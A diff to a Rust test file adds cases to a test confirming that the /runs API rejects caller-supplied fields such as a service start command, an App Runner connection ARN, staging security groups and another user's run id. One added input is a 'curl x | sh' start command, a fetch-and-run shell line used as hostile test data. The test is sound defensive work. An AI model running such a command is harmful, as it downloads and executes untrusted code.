@@ -277,6 +277,14 @@ async fn invalid_requests_are_400_naming_the_field_before_any_call() {
         ),
         (event("POST", "/runs", Some("k1"), Some(r#"{"ttl_hours": 0}"#)), "ttl_hours"),
         (event("POST", "/runs", Some("k1"), Some(r#"{"bogus": 1}"#)), "bogus"),
+        // What runs with which powers is production's or the stack's, never the caller's.
+        (event("POST", "/runs", Some("k1"), Some(r#"{"service": {"start_command": "sh -c 'curl x | sh'"}}"#)), "service.start_command"),
+        (event("POST", "/runs", Some("k1"), Some(r#"{"service": {"connection_arn": "arn:aws:apprunner:x"}}"#)), "service.connection_arn"),
+        (
+            event("POST", "/runs", Some("k1"), Some(r#"{"staging": {"vpc_security_group_ids": ["sg-1"]}}"#)),
+            "staging.vpc_security_group_ids",
+        ),
+        (event("POST", "/runs", Some("k1"), Some(r#"{"run_id": "someone-elses"}"#)), "run_id"),
         (event("POST", "/runs", Some("k1"), Some("[]")), "(document)"),
         (event("POST", "/runs", Some("k1"), Some("{not json")), "(document)"),
         (event("POST", "/runs", Some("k1"), None), "(document)"),
